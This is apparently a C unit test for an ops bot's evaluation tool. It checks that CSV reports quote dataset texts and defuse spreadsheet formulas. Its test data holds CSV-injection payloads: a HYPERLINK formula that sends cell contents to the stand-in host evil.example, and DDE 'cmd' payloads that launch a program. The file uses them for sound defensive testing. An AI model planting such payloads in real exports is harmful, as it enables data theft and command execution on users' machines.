/* `opsbot eval` reports: the CSV quotes dataset texts (RFC 4180) and never
 * lets one start a spreadsheet formula. Rules only: no LLM, no network. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <cjson/cJSON.h>
#include <uv.h>

#include "opsbot/bot.h"
#include "opsbot/config.h"
#include "opsbot/eval.h"
#include "opsbot/log.h"
#include "unit/csv_reader.h"

#define NCOLS 19
#define TEXT_COL 4

static const char *source_root(void)
{
    const char *r = getenv("OB_SOURCE_ROOT");

    return r && *r ? r : "..";
}

static void write_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");

    assert_non_null(f);
    assert_int_equal(fputs(text, f) >= 0, 1);
    assert_int_equal(fclose(f), 0);
}

static char *slurp(const char *path)
{
    FILE *f = fopen(path, "rb");
    char *buf;
    long n;

    assert_non_null(f);
    assert_int_equal(fseek(f, 0, SEEK_END), 0);
    n = ftell(f);
    assert_true(n >= 0);
    rewind(f);
    buf = malloc((size_t)n + 1);
    assert_non_null(buf);
    assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
    buf[n] = '\0';
    fclose(f);
    return buf;
}

/* A config without an LLM: the shipped intents and one policy file. */
static void write_config(const char *dir, char *config, size_t len)
{
    char path[512], *y = NULL;

    snprintf(path, sizeof(path), "%s/p.yaml", dir);
    write_file(path, "groups:\n"
                     "  engineers: [test:dev]\n"
                     "rules:\n"
                     "  - {name: reads, group: engineers, action: [logs, metrics, status],"
                     " effect: allow}\n");
    assert_true(asprintf(&y,
                         "bot: {name: opsbot, state: \":memory:\"}\n"
                         "log: {level: error}\n"
                         "actions:\n"
                         "  include: %s/intents/*.yaml\n"
                         "  bind:\n"
                         "    restart: {type: exec, argv: [/bin/echo, \"{service}\", \"{env}\"]}\n"
                         "    rollback: {type: exec, argv: [/bin/echo, \"{service}\", \"{env}\"]}\n"
                         "    scale: {type: exec, argv: [/bin/echo, \"{service}\", \"{env}\"]}\n"
                         "    logs: {type: exec, argv: [/bin/echo, \"{service}\", \"{env}\"]}\n"
                         "    metrics: {type: exec, argv: [/bin/echo, \"{service}\", \"{env}\"]}\n"
                         "    status: {type: exec, argv: [/bin/echo, \"{service}\", \"{env}\"]}\n"
                         "    pods: {type: exec, argv: [/bin/echo, \"{service}\", \"{env}\"]}\n"
                         "policies: {include: p.yaml}\n",
                         source_root()) > 0);
    snprintf(config, len, "%s/opsbot.yaml", dir);
    write_file(config, y);
    free(y);
}

/* Dataset texts (user text) that a spreadsheet would run as formulas. */
static const char *const evil[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"restart checkout in prod\")",
    "+restart checkout in prod",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
};
#define NEVIL (sizeof(evil) / sizeof(evil[0]))

static void write_dataset(const char *path)
{
    FILE *f = fopen(path, "w");

    assert_non_null(f);
    for (size_t i = 0; i < NEVIL; i++) {
        cJSON *o = cJSON_CreateObject();
        char *line;

        assert_non_null(cJSON_AddStringToObject(o, "text", evil[i]));
        assert_non_null(cJSON_AddNullToObject(o, "action"));
        line = cJSON_PrintUnformatted(o);
        assert_non_null(line);
        fprintf(f, "%s\n", line);
        cJSON_free(line);
        cJSON_Delete(o);
    }
    fprintf(f, "{\"text\": \"status of checkout in prod, please\", \"action\": \"status\", "
               "\"params\": {\"service\": \"checkout\", \"env\": \"prod\"}}\n");
    assert_int_equal(fclose(f), 0);
}

static void test_csv_formulas(void **state)
{
    char dir[] = "/tmp/opsbot-eval-XXXXXX";
    char config[600], ds[600], csv[600], err[512], f[NCOLS][512];
    const char *variants[] = {"rules:mode=rules-only"};
    const char *dsp = ds, *p;
    struct ob_eval_opts o = {0};
    struct ob_bundle *b = NULL;
    struct ob_eval *e = NULL;
    struct ob_diag d;
    uv_loop_t loop;
    char *out, *cmd = NULL;

    (void)state;
    assert_non_null(mkdtemp(dir));
    write_config(dir, config, sizeof(config));
    snprintf(ds, sizeof(ds), "%s/ds.jsonl", dir);
    snprintf(csv, sizeof(csv), "%s/out.csv", dir);
    write_dataset(ds);
    ob_diag_init(&d);
    if (ob_bundle_load(&b, config, &d)) {
        ob_diag_print(&d, NULL);
        fail_msg("config rejected");
    }
    ob_diag_release(&d);
    assert_int_equal(uv_loop_init(&loop), 0);
    o.datasets = &dsp;
    o.ndatasets = 1;
    o.variants = variants;
    o.nvariants = 1;
    o.csv_path = csv;
    assert_int_equal(ob_eval_run(&e, &loop, NULL, b, &o, err, sizeof(err)), 0);
    out = slurp(csv);
    /* Quoted, with a ' in front: text, not a formula. */
    assert_non_null(strstr(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"));
    assert_non_null(strstr(out, ",\"'+restart checkout in prod\","));
    assert_non_null(strstr(out, ",\"'-1+cmd|' /C calc'!A0\","));
    assert_non_null(strstr(out, ",\"'\t=1+1\","));
    assert_null(strstr(out, ",="));
    assert_null(strstr(out, ",+"));
    assert_null(strstr(out, ",-"));
    assert_null(strstr(out, ",@"));
    /* Every line row reads back: one ' dropped gives the dataset text. */
    p = out;
    assert_int_equal(csv_row(&p, f, NCOLS), NCOLS);
    assert_string_equal(f[TEXT_COL], "text");
    for (size_t i = 0; i < NEVIL; i++) {
        assert_int_equal(csv_row(&p, f, NCOLS), NCOLS);
        assert_string_equal(f[0], "line");
        assert_int_equal(f[TEXT_COL][0], '\'');
        assert_string_equal(f[TEXT_COL] + 1, evil[i]);
    }
    /* An ordinary text with a comma: only RFC 4180 quoting. */
    assert_int_equal(csv_row(&p, f, NCOLS), NCOLS);
    assert_string_equal(f[TEXT_COL], "status of checkout in prod, please");
    assert_non_null(strstr(out, ",\"status of checkout in prod, please\","));
    free(out);
    ob_eval_free(e);
    ob_bundle_unref(b);
    uv_run(&loop, UV_RUN_DEFAULT);
    assert_int_equal(uv_loop_close(&loop), 0);
    assert_true(asprintf(&cmd, "rm -rf '%s'", dir) > 0);
    assert_int_equal(system(cmd), 0);
    free(cmd);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_csv_formulas),
    };

    ob_log_set_level(OB_LOG_ERROR);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
